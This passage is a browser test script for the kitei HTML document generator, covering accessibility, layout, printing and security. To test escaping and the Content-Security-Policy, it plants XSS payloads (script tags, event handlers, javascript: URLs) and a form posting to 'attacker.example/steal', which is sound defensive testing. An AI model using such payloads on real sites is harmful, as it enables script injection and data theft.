// Browser checks of kitei's HTML output, in Debian's headless chromium.
//
//   node tests/html/check.mjs        (from the repository root, after
//                                     npm ci --prefix tests/html)
//
// Builds every content/*.yaml, a hostile copy of a sample profile and a
// hostile standalone Markdown file into tests/tmp/, loads every page at
// 375 px and 1280 px (axe-core: WCAG 2.1 AA and best practices, 0
// violations), follows the navigation and cross-document links, checks
// text zoom (200 % and a 32 px default font), plants <base>, <form> and
// inline style payloads in a copy of a page to see the CSP block them,
// prints the PDF of each handbook, and prints one "ok …" or "not ok …"
// line per check.  Exit status 0 when all passed, 1 when some failed, 2
// when the checks could not run.
import { spawnSync } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import { fileURLToPath, pathToFileURL } from 'node:url';
import { createRequire } from 'node:module';

const ROOT = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '..', '..');
const TMP = path.join(ROOT, 'tests', 'tmp');
const CHROMIUM = process.env.CHROMIUM || '/usr/bin/chromium';
const WIDTHS = [375, 1280];
const HOSTILE_NAME = `株式会社<script>alert(1)</script>"&'<img src=x onerror=alert(2)>`;

let failed = 0, passed = 0;
function check(name, ok, detail) {
  if (ok) {
    passed++;
    console.log(`ok html: ${name}`);
  } else {
    failed++;
    console.log(`not ok html: ${name}`);
    if (detail) console.error(`# ${name}: ${String(detail).slice(0, 1500)}`);
  }
}

let chromium, AXE;
try {
  ({ chromium } = await import('playwright-core'));
  AXE = createRequire(import.meta.url).resolve('axe-core/axe.min.js');
} catch (e) {
  console.error('playwright-core or axe-core is missing: npm ci --prefix tests/html');
  process.exit(2);
}

// ---- build ----------------------------------------------------------------

function kitei(args) {
  const p = spawnSync(path.join(ROOT, 'kitei'), args, { cwd: ROOT, encoding: 'utf8' });
  return { rc: p.status, err: (p.stderr || '') + (p.error ? String(p.error) : '') };
}

fs.mkdirSync(TMP, { recursive: true });
const sites = [];	// { name, dir }
for (const f of fs.readdirSync(path.join(ROOT, 'content')).filter(f => f.endsWith('.yaml')).sort()) {
  const stem = f.slice(0, -5), dir = path.join(TMP, `html-${stem}`);
  fs.rmSync(dir, { recursive: true, force: true });
  const r = kitei(['build', '-q', `content/${f}`, '-o', path.relative(ROOT, dir)]);
  check(`${stem}: kitei build`, r.rc === 0 && fs.existsSync(path.join(dir, 'index.html')), r.err);
  if (r.rc === 0) sites.push({ name: stem, dir });
}

// A hostile profile: markup, quotes and javascript: URLs in the values.
const inject = { name: 'inject', dir: path.join(TMP, 'html-inject'), hostile: true };
{
  const yq = s => `'${s.replace(/'/g, "''")}'`;
  let t = fs.readFileSync(path.join(ROOT, 'content', 'aoba-seisakusho.yaml'), 'utf8');
  const edits = [
    [/^  name: .*$/m, `  name: ${yq(HOSTILE_NAME)}\n  website: 'javascript:alert(3)'`],
    [/^business:\n/m, 'business:\n  website: true\n'],
    [/^(  key_information:\n)/m, `$1    - ${yq('[押す](javascript:alert(4)) <b onclick=alert(5)>x</b> {{ company.name }}')}\n`],
    [/^(  support:\n    - name: .*\n)/m, `$1      url: 'javascript:alert(6)'\n      email: ${yq('"><svg onload=alert(7)>@x.example')}\n`],
    // The ledger CSV stays in the sample's folder; the hostile copy keeps its IT assets.
    [/^  csv: assets\.csv\n  csv_encoding: cp932\n/m, ''],
    // the self-assessment's CSV stays behind in content/: a hostile outsider answers instead
    [/^      csv: answers-2026-09\.csv\n/m, `      respondents:\n        - name: ${yq(HOSTILE_NAME)}\n          answers:\n` +
      Array.from({ length: 25 }, (_, i) => `            ${i + 1}: 実施している\n`).join('')],
  ];
  let missing = [];
  for (const [re, to] of edits) {
    if (!re.test(t)) missing.push(String(re));
    t = t.replace(re, to);
  }
  // The company folder (slots, roster CSV) goes with the profile.
  const prof = path.join(TMP, 'html-inject-in.yaml');
  fs.writeFileSync(prof, t);
  fs.rmSync(path.join(TMP, 'html-inject-in'), { recursive: true, force: true });
  fs.cpSync(path.join(ROOT, 'content', 'aoba-seisakusho'), path.join(TMP, 'html-inject-in'), { recursive: true });
  fs.rmSync(inject.dir, { recursive: true, force: true });
  const r = kitei(['build', '-q', path.relative(ROOT, prof), '-o', path.relative(ROOT, inject.dir)]);
  check('inject: a profile with markup, quotes and javascript: URLs builds',
    r.rc === 0 && missing.length === 0, r.err + missing.join(' '));
  if (r.rc === 0) sites.push(inject);
}

// A hostile standalone Markdown file: raw HTML and every kind of link.
const render = { name: 'render', dir: path.join(TMP, 'html-render'), render: true };
{
  fs.rmSync(render.dir, { recursive: true, force: true });
  fs.mkdirSync(render.dir, { recursive: true });
  const md = path.join(TMP, 'html-render.md');
  fs.writeFileSync(md, [
    '# 見出し <script>alert(1)</script>',
    '',
    '<script>alert(2)</script>',
    '',
    '<img src="http://example.com/x.png" onerror="alert(3)">',
    '',
    '本文 <b onclick="alert(4)">太字</b> と <a href="javascript:alert(5)">生のリンク</a>。',
    '',
    '- [js](javascript:alert(6)) [JS](JaVaScRiPt:alert(7)) [tab](java&#9;script:alert(8))',
    '- [data](data:text/html,x) [vb](vbscript:x) [proto](//example.com/x) [bs](<\\\\example.com/x>)',
    '- [https](https://example.com/a?b="c"&d=<e>) [http](http://example.com/) [mail](mailto:a@example.com)',
    '- [rel](other.html) [anchor](#二つ目) https://example.com/auto',
    '- ![画像](http://example.com/y.png "t")',
    '',
    '## 二つ目',
    '',
    '| a | b |',
    '|---|---|',
    '| <i>x</i> | `<code>` |',
    '',
  ].join('\n'));
  const r = kitei(['render', path.relative(ROOT, md), '-o', path.relative(ROOT, path.join(render.dir, 'render.html'))]);
  check('render: a Markdown file with raw HTML and hostile links renders', r.rc === 0, r.err);
  if (r.rc === 0) sites.push(render);
}

// ---- the browser ------------------------------------------------------------

const browser = await chromium.launch({
  executablePath: CHROMIUM,
  headless: true,
  args: ['--no-sandbox', '--disable-gpu', '--no-first-run', '--disable-background-networking',
    '--disable-component-update', '--disable-sync'],
});

// Runs in the page: everything a check needs, as plain data.
function inspect() {
  const safe = h => /^(https?:\/\/|mailto:|tel:\d+$|#)/i.test(h) ||
    (!/^\/\//.test(h) && !/^[^/?#]*:/.test(h) && !/[\s\\]/.test(h) && h !== '');
  const doc = document.documentElement;
  const ids = [...document.querySelectorAll('[id]')].map(e => e.id);
  const anchors = [...document.querySelectorAll('a[href^="#"]')].map(a => a.getAttribute('href'));
  const hrefs = [...document.querySelectorAll('a[href], [src], [action], [formaction]')]
    .map(e => e.getAttribute('href') ?? e.getAttribute('src') ?? e.getAttribute('action') ?? e.getAttribute('formaction'));
  const onattrs = [...document.querySelectorAll('*')].flatMap(e =>
    [...e.attributes].filter(a => /^on/i.test(a.name)).map(a => `${e.tagName}[${a.name}]`));
  const headings = [...document.querySelectorAll('h1,h2,h3,h4,h5,h6')].map(h => +h.tagName[1]);
  let skip = null;
  headings.forEach((l, i) => { if (i > 0 && l > headings[i - 1] + 1 && !skip) skip = `h${headings[i - 1]} → h${l}`; });
  const wide = [...document.querySelectorAll('body *')]
    .filter(e => e.getBoundingClientRect().right > doc.clientWidth + 0.5 && !e.closest('.table-wrap'))
    .slice(0, 5).map(e => `${e.tagName}.${e.className} ${Math.round(e.getBoundingClientRect().right)}`);
  const tables = [...document.querySelectorAll('table')];
  const css = [...document.querySelectorAll('style')].map(s => s.textContent).join('\n');
  const body = getComputedStyle(document.body);
  const toc = document.querySelector('nav.toc');
  return {
    scrollWidth: doc.scrollWidth, clientWidth: doc.clientWidth, wide,
    missing: anchors.filter(h => !document.getElementById(decodeURIComponent(h.slice(1)))),
    dupIds: ids.filter((id, i) => ids.indexOf(id) !== i),
    unsafe: hrefs.filter(h => !safe(h)),
    // The text's own links: not the header bar, skip link, permalinks and
    // the ways back to the table of contents.
    links: [...document.querySelectorAll('a[href]')].filter(a => !a.closest('.bar, .skip, .permalink, .back, .to-toc'))
      .map(a => a.getAttribute('href')),
    nav: {
      bar: [...document.querySelectorAll('header.bar nav a')].map(a => a.getAttribute('href')),
      running: !!document.querySelector('header.bar .running'),
      skip: document.querySelector('a.skip')?.getAttribute('href') ?? null,
      main: document.querySelector('main')?.id ?? null,
      toToc: document.querySelector('a.to-toc')?.getAttribute('href') ?? null,
      back: document.querySelectorAll('.body > .back a[href^="#_toc"]').length,
      chapters: document.querySelectorAll('.body > h2.l1, .body > h1.l1').length,
      permalinks: [...document.querySelectorAll('h1[id], h2[id], h3[id], h4[id], h5[id], h6[id]')]
        .filter(h => !h.id.startsWith('_') && h.querySelector(':scope > a.permalink')?.getAttribute('href') !== '#' + h.id)
        .map(h => h.id),
      external: [...document.querySelectorAll('a[href]')].map(a => a.getAttribute('href'))
        .filter(h => /^[a-z]+\.(html|pdf)(#|$)/.test(h)),
      tel: [...document.querySelectorAll('a[href^="tel:"]')].map(a => [a.getAttribute('href'), a.textContent]),
    },
        // inline SVG charts are allowed; what could run or load inside them is not
    scripts: document.querySelectorAll('script, iframe, object, embed, img, base, form, math, svg foreignObject, svg image, svg use, svg a').length +
      [...document.querySelectorAll('link')].filter(l => !/^data:/.test(l.getAttribute('href'))).length,
    onattrs,
    lang: doc.getAttribute('lang'),
    doctype: document.doctype ? document.doctype.name : null,
    charset: document.characterSet,
    viewport: !!document.querySelector('meta[name=viewport]'),
    h1: headings.filter(l => l === 1).length, skip,
    unwrapped: tables.filter(t => !t.classList.contains('approval') && !(t.parentElement.classList.contains('table-wrap') &&
      getComputedStyle(t.parentElement).overflowX === 'auto')).length,
    tables: tables.length,
    cssExternal: /url\(|@import|@font-face/i.test(css),
    font: body.fontFamily, lineBreak: body.lineBreak,
    toc: toc ? [...toc.querySelectorAll('a')].map(a => a.getAttribute('href')) : null,
    chapters: [...document.querySelectorAll('.body > .l1[id], .body > .l2[id]')].map(h => '#' + h.id),
    title: document.title,
    // Short cells (第10章, 令和7年6月1日, 新規作成) on one line each, or
    // on as many as the template asks for with <br> (1 above 第8章).
    brokenShort: [...document.querySelectorAll('.table-wrap td, .table-wrap th')].filter(c => {
      const half = [...c.textContent.trim()].reduce((n, ch) => n + (ch.codePointAt(0) < 0x80 ? 1 : 2), 0);
      if (half === 0 || half > 20) return false;
      const r = document.createRange();
      r.selectNodeContents(c);
      const lines = new Set([...r.getClientRects()].filter(x => x.width > 0).map(x => Math.round(x.top))).size;
      return lines > 1 + c.querySelectorAll('br').length;
    }).map(c => c.textContent),
    linkNames: [...document.querySelectorAll('.doc-links a')].map(a => a.textContent),
    running: document.querySelector('.running')?.textContent ?? null,
    cover: document.querySelector('.cover') ? {
      mark: document.querySelector('.cover .mark')?.textContent ?? null,
      title: document.querySelector('.cover h1')?.textContent,
      version: document.querySelector('.cover .version')?.textContent,
      dates: document.querySelector('.cover .dates')?.textContent,
      company: document.querySelector('.cover .company')?.textContent,
      approval: [...document.querySelectorAll('.cover table.approval th')].map(t => t.textContent).join(''),
      history: document.querySelectorAll('.history table tbody tr').length,
    } : null,
    signature: document.querySelector('.signature')?.textContent ?? null,
    text: document.body.innerText,
  };
}

const docsOf = site => fs.readdirSync(site.dir).filter(f => f.endsWith('.html')).sort();
const results = {};	// site/page -> inspect() at 1280
const phone = {};	// site/page -> inspect() at 375

for (const site of sites) {
  for (const page of docsOf(site)) {
    const file = path.join(site.dir, page), url = pathToFileURL(file).href;
    const label = `${site.name}/${page}`;
    const bad = { overflow: [], requests: [], errors: [], load: [] };
    for (const width of WIDTHS) {
      const ctx = await browser.newContext({ viewport: { width, height: 800 }, offline: true });
      const p = await ctx.newPage();
      const at = `@${width}px: `;
      p.on('request', r => { if (r.url() !== url) bad.requests.push(at + r.url()); });
      p.on('pageerror', e => bad.errors.push(at + e));
      p.on('console', m => { if (m.type() === 'error' || m.type() === 'warning') bad.errors.push(at + m.text()); });
      p.on('dialog', d => { bad.errors.push(`${at}dialog ${d.message()}`); d.dismiss().catch(() => {}); });
      try {
        await p.goto(url, { waitUntil: 'load', timeout: 15000 });
        const r = await p.evaluate(inspect);
        if (r.scrollWidth > r.clientWidth)
          bad.overflow.push(`${at}scrollWidth ${r.scrollWidth} > ${r.clientWidth}: ${r.wide.join(', ')}`);
        if (width === 1280) results[label] = r;
        if (width === 375) phone[label] = r;
      } catch (e) {
        bad.load.push(at + e);
      }
      await ctx.close();
    }
    // axe-core needs its script in the page: a context that bypasses the
    // page's CSP (the CSP itself is checked below, on its own).
    const violations = [];
    for (const width of WIDTHS) {
      const ctx = await browser.newContext({ viewport: { width, height: 800 }, offline: true, bypassCSP: true });
      const p = await ctx.newPage();
      try {
        await p.goto(url, { waitUntil: 'load', timeout: 15000 });
        await p.addScriptTag({ path: AXE });
        const res = await p.evaluate(() => axe.run(document, {
          runOnly: { type: 'tag', values: ['wcag2a', 'wcag2aa', 'wcag21a', 'wcag21aa', 'best-practice'] },
          resultTypes: ['violations'],
        }));
        for (const v of res.violations)
          violations.push(`@${width}px ${v.id} (${v.impact}): ${v.nodes.slice(0, 3).map(n => n.target.join(' ')).join(', ')}`);
      } catch (e) {
        violations.push(`@${width}px axe did not run: ${e}`);
      }
      await ctx.close();
    }
    const w = WIDTHS.join(' and ');
    check(`${label}: axe-core, WCAG 2.1 AA and best practices: no violation at ${w} px`, violations.length === 0,
      violations.join(' | '));
    check(`${label}: loads at ${w} px`, bad.load.length === 0, bad.load.join(' | '));
    check(`${label}: no horizontal overflow of the page at ${w} px`, bad.overflow.length === 0, bad.overflow.join(' | '));
    check(`${label}: no request leaves the file`, bad.requests.length === 0, bad.requests.join(' '));
    check(`${label}: no script error, no dialog`, bad.errors.length === 0, bad.errors.join(' | '));
    const r = results[label];
    if (!r) continue;
    check(`${label}: every in-page link has its target, ids are unique`,
      r.missing.length === 0 && r.dupIds.length === 0, `missing ${r.missing} duplicate ${r.dupIds}`);
    check(`${label}: links only to http(s), mailto, anchors and relative paths; no script, handler or embedded resource`,
      r.unsafe.length === 0 && r.scripts === 0 && r.onattrs.length === 0,
      `unsafe ${r.unsafe} elements ${r.scripts} handlers ${r.onattrs}`);
    check(`${label}: HTML5, lang=ja, UTF-8, viewport`,
      r.doctype === 'html' && r.lang === 'ja' && r.charset === 'UTF-8' && r.viewport, JSON.stringify([r.doctype, r.lang, r.charset]));
    // A file of per-person forms (receipts, pledges) is one page per form, each with its own title.
    const perForm = /^(receipts|pledges)\.html$/.test(page);
    check(`${label}: one h1, no heading level skipped`, (site.render ? r.h1 <= 1 : perForm ? r.h1 >= 1 : r.h1 === 1) && !r.skip,
      `h1 ${r.h1} ${r.skip}`);
    check(`${label}: every table scrolls in its own box`, r.unwrapped === 0, `${r.unwrapped} of ${r.tables}`);
    if (phone[label])
      check(`${label}: at 375 px no short cell breaks inside (the table scrolls instead)`,
        phone[label].brokenShort.length === 0, phone[label].brokenShort.slice(0, 8).join(' | '));
    check(`${label}: Japanese font stack, no web font, line-break strict`,
      !r.cssExternal && /IPAex/.test(r.font) && /Noto Serif CJK JP/.test(r.font) && /Hiragino/.test(r.font) &&
      /Yu Mincho/.test(r.font) && r.lineBreak === 'strict', `${r.font} ${r.lineBreak} external ${r.cssExternal}`);
    if (site.render) continue;
    if (page === 'index.html') {
      check(`${label}: the links to each document have names that tell them apart`,
        r.linkNames.length === new Set(r.linkNames).size, r.linkNames.join(' | '));
      const forms = docsOf(site).filter(f => !['index.html', 'policy.html', 'handbook.html', 'regulations.html'].includes(f));
      const want = ['policy', 'handbook', 'regulations'].flatMap(d => [`${d}.html`, `${d}.pdf`])
        .concat(forms, forms.map(f => f.replace(/\.html$/, '.pdf')));
      check(`${label}: links every document's HTML and PDF, and they exist`,
        want.every(f => r.links.includes(f)) && r.links.filter(h => !h.startsWith('#')).every(h => fs.existsSync(path.join(site.dir, h))),
        r.links.join(' '));
      check(`${label}: company, version, dates and chapter status list`,
        r.text.includes('版') && /制定/.test(r.text) && /関連規程の整備状況/.test(r.text) && /改定|新規作成|対応なし|作成不要/.test(r.text),
        r.text.slice(0, 400));
    }
    if (page !== 'index.html') {
      const n = r.nav, doc = page.replace(/\.html$/, '');
      const target = h => {
        const [f, frag] = h.split('#');
        if (!fs.existsSync(path.join(site.dir, f))) return false;
        if (!frag) return true;
        return fs.readFileSync(path.join(site.dir, f), 'utf8').includes(` id="${decodeURIComponent(frag)}"`);
      };
      check(`${label}: a skip link to the main text; every heading has a permalink to its own id`,
        n.skip === '#_main' && n.main === '_main' && n.permalinks.length === 0, JSON.stringify(n.permalinks.slice(0, 5)));
      check(`${label}: the header bar links the document list and this document's PDF, and both exist`,
        n.bar.length === 2 && n.bar[0] === 'index.html' && n.bar[1] === `${doc}.pdf` && n.bar.every(target) && n.running,
        JSON.stringify(n.bar));
      check(`${label}: links to other documents resolve, to the file and the heading`,
        n.external.every(target), n.external.filter(h => !target(h)).join(' '));
      if (page === 'handbook.html')
        check(`${label}: phone numbers are tel: links that dial what they show`,
          n.tel.length > 0 && n.tel.every(([h, t]) => h === 'tel:' + t.replace(/-/g, '') && /^0\d{1,4}-\d{1,4}-\d{3,4}$/.test(t)),
          JSON.stringify(n.tel));
      if (r.toc)
        check(`${label}: a fixed 「▲目次」 and 「目次へ戻る」 at the end of each chapter lead to the table of contents`,
          n.toToc === '#_toc' && n.back === n.chapters && n.back > 0, JSON.stringify(n));
    }
    if (page === 'policy.html') {
      check(`${label}: title and signature, no classification mark`,
        !r.cover && r.signature && !/社外秘|極秘/.test(r.running ?? ''), `${r.signature} ${r.running}`);
    } else if (page === 'risk.html') {
      check(`${label}: title, no cover, classification mark in the running head`,
        !r.cover && /社外秘|所外秘/.test(r.running ?? ''), `${r.cover} ${r.running}`);
    } else if (page === 'handbook.html' || page === 'regulations.html') {
      const c = r.cover;
      check(`${label}: cover with mark, title, version, dates, company, approval box, revision history`,
        c && c.mark && c.title && c.version && /^第.+版$/.test(c.version) && /制定/.test(c.dates) && c.company &&
        c.approval === '承認確認作成' && c.history > 0, JSON.stringify(c));
      check(`${label}: table of contents links every chapter and section`,
        r.toc && r.toc.length === r.chapters.length && r.toc.every((h, i) => h === r.chapters[i]),
        `${r.toc?.length} links, ${r.chapters.length} headings`);
    }
  }
}

// ---- injection: the hostile values show literally --------------------------

if (results['inject/index.html']) {
  for (const page of docsOf(inject)) {
    const r = results[`inject/${page}`];
    if (!r) continue;
    check(`inject/${page}: the hostile company name shows literally in title and text`,
      r.title.includes(HOSTILE_NAME) && r.text.includes(HOSTILE_NAME), `${r.title} / ${r.running}`);
  }
  const hb = results['inject/handbook.html'];
  check('inject/handbook.html: javascript: values show as text, never as links',
    hb && hb.text.includes('javascript:alert(3)') && hb.text.includes('javascript:alert(6)') &&
    hb.text.includes('[押す](javascript:alert(4)) <b onclick=alert(5)>x</b> {{ company.name }}') &&
    !hb.links.some(h => /script:/i.test(h)), hb && hb.links.filter(h => !h.startsWith('#')).join(' '));
}
if (results['render/render.html']) {
  const r = results['render/render.html'];
  const kept = ['https://example.com/a?b="c"&d=<e>', 'http://example.com/', 'mailto:a@example.com', 'other.html', '#二つ目',
    'https://example.com/auto'];
  check('render/render.html: safe links kept, others dropped to their text, raw HTML dropped',
    kept.every(h => r.links.includes(h)) && r.links.length === kept.length &&
    ['js', 'JS', 'tab', 'data', 'vb', 'proto', 'bs', '画像'].every(t => r.text.includes(t)) &&
    !/<script|<img|<b |<a |onclick|onerror|<i>/.test(r.text),
    r.links.join(' ') + ' | ' + r.text.slice(0, 300));
}

// ---- getting around on a phone ---------------------------------------------
// From the middle of a document: tap 「▲目次」, tap the last article; and
// 「目次へ戻る」 lands on the chapter's own entry.  Read from the top, the
// folded table of contents takes less than a screen.

for (const site of sites.filter(s => !s.render && !s.hostile)) {
  for (const page of ['handbook.html', 'regulations.html']) {
    const file = path.join(site.dir, page);
    if (!fs.existsSync(file)) continue;
    const label = `${site.name}/${page}`;
    const ctx = await browser.newContext({ viewport: { width: 375, height: 800 }, offline: true, hasTouch: true });
    const p = await ctx.newPage();
    let r = {};
    try {
      await p.goto(pathToFileURL(file).href, { waitUntil: 'load' });
      r.folded = await p.evaluate(() => Math.round(document.querySelector('nav.toc').getBoundingClientRect().height));
      const last = p.locator('nav.toc details li:not(.ch) a').last();
      r.hiddenFirst = !(await last.isVisible());
      const href = await last.getAttribute('href');
      await p.evaluate(() => { const h = document.querySelectorAll('.body h3, .body h2'); h[Math.floor(h.length / 2)].scrollIntoView(); });
      await p.tap('a.to-toc');
      r.shown = await last.isVisible();
      await last.tap();
      await p.waitForTimeout(100);
      r.at = await p.evaluate(h => {
        const t = document.getElementById(decodeURIComponent(h.slice(1)));
        const box = t.getBoundingClientRect();
        return decodeURIComponent(location.hash) === decodeURIComponent(h) && box.top > -1 && box.top < innerHeight;  // sub-pixel scrolling
      }, href);
      const back = p.locator('.body > .back a').nth(1);
      const to = await back.getAttribute('href');
      await back.scrollIntoViewIfNeeded();
      await back.tap();
      r.back = await p.evaluate(to => {
        const li = document.getElementById(decodeURIComponent(to.slice(1)));
        const a = li && li.querySelector('li:not(.ch) a');
        return !!a && a.offsetParent !== null && li.getBoundingClientRect().top < innerHeight;
      }, to);
    } catch (e) {
      r.error = String(e);
    }
    check(`${label}: on a phone the folded contents fit a screen; 「▲目次」 then one tap reaches the last article; 「目次へ戻る」 opens on the chapter`,
      r.folded > 0 && r.folded <= 800 && r.hiddenFirst && r.shown && r.at && r.back, JSON.stringify(r));
    await ctx.close();
  }
}

// ---- embedded fonts (kitei build --embed-fonts) -----------------------------
// Off by default (every page above has no @font-face and no font-src);
// when asked, each document carries WOFF2 subsets in data: URLs, the CSP
// allows fonts from data: only then, and the browser renders with them.

{
  const dir = path.join(TMP, 'html-embed');
  fs.rmSync(dir, { recursive: true, force: true });
  const r = kitei(['build', '-q', '--embed-fonts', 'content/aoba-seisakusho.yaml', '-o', path.relative(ROOT, dir)]);
  check('embed: kitei build --embed-fonts builds', r.rc === 0, r.err);
  const plain = sites.find(s => s.name === 'aoba-seisakusho');
  for (const page of r.rc === 0 ? ['policy.html', 'handbook.html', 'regulations.html'] : []) {
    const file = path.join(dir, page), url = pathToFileURL(file).href;
    const ctx = await browser.newContext({ viewport: { width: 375, height: 800 }, offline: true });
    const p = await ctx.newPage();
    const bad = [];
    p.on('request', q => { if (q.url() !== url && !q.url().startsWith('data:')) bad.push(q.url()); });
    p.on('console', m => { if (m.type() === 'error' || m.type() === 'warning') bad.push(m.text()); });
    let res = {};
    try {
      await p.goto(url, { waitUntil: 'load' });
      await p.evaluate(() => document.fonts.ready);
      res = await p.evaluate(() => ({
        fonts: [...document.fonts].map(f => `${f.family}:${f.status}`),
        csp: document.querySelector('meta[http-equiv="Content-Security-Policy"]').content,
      }));
      const cdp = await ctx.newCDPSession(p);
      await cdp.send('DOM.enable');
      await cdp.send('CSS.enable');
      const root = (await cdp.send('DOM.getDocument')).root.nodeId;
      res.used = [];
      for (const sel of ['h1', '.body p']) {
        const { nodeId } = await cdp.send('DOM.querySelector', { nodeId: root, selector: sel });
        res.used.push(...(await cdp.send('CSS.getPlatformFontsForNode', { nodeId })).fonts.map(f => f.isCustomFont));
      }
    } catch (e) {
      res.error = String(e);
    }
    const kb = Math.round((fs.statSync(file).size - fs.statSync(path.join(plain.dir, page)).size) / 1024);
    console.error(`# embed/${page}: +${kb} KB of fonts (${(res.fonts || []).join(', ')})`);
    check(`embed/${page}: the WOFF2 subsets load and render the text, CSP widened by font-src data: only, nothing requested`,
      res.fonts?.length >= 2 && res.fonts.every(f => f.endsWith(':loaded')) && res.used.length > 0 && res.used.every(Boolean) &&
      /font-src data:/.test(res.csp) && /default-src 'none'/.test(res.csp) && bad.length === 0,
      JSON.stringify({ ...res, bad }));
    await ctx.close();
  }
  const plainCsp = fs.readFileSync(path.join(plain.dir, 'handbook.html'), 'utf8');
  check('embed: without --embed-fonts no page embeds a font or allows one',
    !/font-src|@font-face/.test(plainCsp), '');
  check('embed: the PDFs are the same with and without --embed-fonts',
    r.rc === 0 && ['policy.pdf', 'handbook.pdf', 'regulations.pdf'].every(f =>
      fs.readFileSync(path.join(dir, f)).equals(fs.readFileSync(path.join(plain.dir, f)))), '');
}

// ---- text zoom --------------------------------------------------------------
// WCAG 1.4.4: the reader's font size applies (sizes in rem/em), and the
// text reflows at 200 % zoom (a 1280 px window is 640 CSS px wide).

for (const site of sites.filter(s => s.name === 'aoba-seisakusho')) {
  for (const page of docsOf(site)) {
    const url = pathToFileURL(path.join(site.dir, page)).href, label = `${site.name}/${page}`;
    const out = [];
    for (const [width, font] of [[1280, 32], [640, 16], [375, 32]]) {
      const ctx = await browser.newContext({ viewport: { width, height: 800 }, offline: true });
      const p = await ctx.newPage();
      const cdp = await ctx.newCDPSession(p);
      await cdp.send('Page.enable');
      await cdp.send('Page.setFontSizes', { fontSizes: { standard: font, fixed: font } });
      await p.goto(url, { waitUntil: 'load' });
      const r = await p.evaluate(() => ({
        body: parseFloat(getComputedStyle(document.body).fontSize),
        sw: document.documentElement.scrollWidth, cw: document.documentElement.clientWidth,
      }));
      // Phones set the body a little smaller (15/16), as a ratio.
      const want = font * (width <= 480 ? 0.9375 : 1);
      out.push({ width, font, ...r, ok: Math.abs(r.body - want) < 0.5 && r.sw <= r.cw });
      await ctx.close();
    }
    check(`${label}: text follows the browser's font size (32 px) and reflows at 200 % zoom without sideways scrolling`,
      out.every(o => o.ok), JSON.stringify(out));
  }
}

// ---- CSP: payloads planted in a copy of a generated page -------------------
// kitei's escaping already drops markup from profile values; this checks
// the second line of defence.  Each payload goes into a copy of a real
// page, once with kitei's CSP and once without it (to show that the
// payload would have worked).

{
  const src = sites.find(s => s.name === 'aoba-seisakusho');
  const page = src && path.join(src.dir, 'handbook.html');
  if (page && fs.existsSync(page)) {
    const html = fs.readFileSync(page, 'utf8');
    const payload = [
      '<base href="https://attacker.example/">',
      '<style>body { background: rgb(255, 0, 0) !important; }</style>',
    ].join('');
    const body = '<form id="evil" action="https://attacker.example/steal" method="post"><input name="x" value="1"></form>' +
      '<p id="styled" style="color: rgb(0, 255, 0)">x</p>';
    const planted = html.replace('</title>', '</title>' + payload).replace('<main id="_main">', '<main id="_main">' + body);
    const variants = {
      csp: planted,
      none: planted.replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/, ''),
    };
    const seen = {};
    for (const [name, text] of Object.entries(variants)) {
      const file = path.join(TMP, `html-csp-${name}.html`);
      fs.writeFileSync(file, text);
      const ctx = await browser.newContext({ offline: true });
      const p = await ctx.newPage();
      const requests = [];
      p.on('request', r => requests.push(r.url()));
      await p.goto(pathToFileURL(file).href, { waitUntil: 'load' });
      const r = await p.evaluate(() => ({
        base: document.baseURI,
        bg: getComputedStyle(document.body).backgroundColor,
        styled: getComputedStyle(document.getElementById('styled')).color,
        font: getComputedStyle(document.body).fontFamily,
      }));
      // Submitting navigates away when nothing stops it.
      await p.evaluate(() => {
        window.violations = [];
        document.addEventListener('securitypolicyviolation', e => window.violations.push(e.effectiveDirective));
        document.getElementById('evil').submit();
      }).catch(() => {});
      await p.waitForTimeout(300);
      r.v = await p.evaluate(() => window.violations).catch(() => null);
      seen[name] = { ...r, requests: requests.filter(u => /attacker/.test(u)) };
      await ctx.close();
    }
    const c = seen.csp, n = seen.none;
    check('csp: without the CSP the planted <base>, <style>, style attribute and <form> take effect (the payloads work)',
      n.base?.startsWith('https://attacker.example') && n.bg === 'rgb(255, 0, 0)' && n.styled === 'rgb(0, 255, 0)' &&
      n.requests.length > 0, JSON.stringify(n));
    check('csp: base-uri \'none\' ignores a planted <base>', c.base?.startsWith('file:'), JSON.stringify(c));
    check('csp: style-src pinned to kitei\'s own style block: a planted <style> and style attribute do nothing, kitei\'s style applies',
      c.bg !== 'rgb(255, 0, 0)' && c.styled !== 'rgb(0, 255, 0)' && /IPAex/.test(c.font ?? ''), JSON.stringify(c));
    check('csp: form-action \'none\' stops a planted form from sending', c.requests.length === 0 &&
      (c.v ?? []).includes('form-action'), JSON.stringify(c));
  } else
    check('csp: a generated page to plant payloads in', false, 'no aoba-seisakusho/handbook.html');
}

// ---- print -----------------------------------------------------------------

// The risk report prints on A4 turned sideways (its @page rule).
for (const site of sites.filter(s => !s.render)) {
  const file = path.join(site.dir, 'risk.html');
  if (!fs.existsSync(file)) continue;
  const label = `${site.name}/risk.html print`;
  const ctx = await browser.newContext({ offline: true });
  const p = await ctx.newPage();
  try {
    await p.goto(pathToFileURL(file).href, { waitUntil: 'load' });
    const pdf = path.join(TMP, `html-print-risk-${site.name}.pdf`);
    await p.pdf({ path: pdf, preferCSSPageSize: true, printBackground: true });
    const size = /Page size:\s+([\d.]+) x ([\d.]+)/.exec(run('pdfinfo', [pdf]));
    check(`${label}: chromium's PDF is A4 landscape`,
      size && Math.round(+size[1]) === 842 && Math.round(+size[2]) === 595, size && size[0]);
  } catch (e) {
    check(`${label}: prints`, false, e);
  }
  await ctx.close();
}

function run(cmd, args) {
  const p = spawnSync(cmd, args, { encoding: 'utf8' });
  return p.error ? `${cmd}: ${p.error.message}` : p.stdout;
}

for (const site of sites.filter(s => !s.render)) {
  const file = path.join(site.dir, 'handbook.html');
  if (!fs.existsSync(file)) continue;
  const label = `${site.name}/handbook.html print`;
  const ctx = await browser.newContext({ offline: true });
  const p = await ctx.newPage();
  try {
    await p.goto(pathToFileURL(file).href, { waitUntil: 'load' });
    await p.emulateMedia({ media: 'print' });
    const s = await p.evaluate(() => {
      const cs = e => getComputedStyle(e);
      const ch = [...document.querySelectorAll('.body > .l1')];
      return {
        breaks: ch.filter(h => cs(h).breakBefore === 'page').length, chapters: ch.length,
        rows: [...document.querySelectorAll('tr')].filter(t => cs(t).breakInside !== 'avoid').length,
        cover: cs(document.querySelector('.cover')).breakAfter,
        running: cs(document.querySelector('header.bar')).display,
        lineBreak: cs(document.body).lineBreak,
        a5: !!document.querySelector('article.a5'),
        mark: document.querySelector('.cover .mark')?.textContent,
        company: document.querySelector('.cover .company')?.textContent,
      };
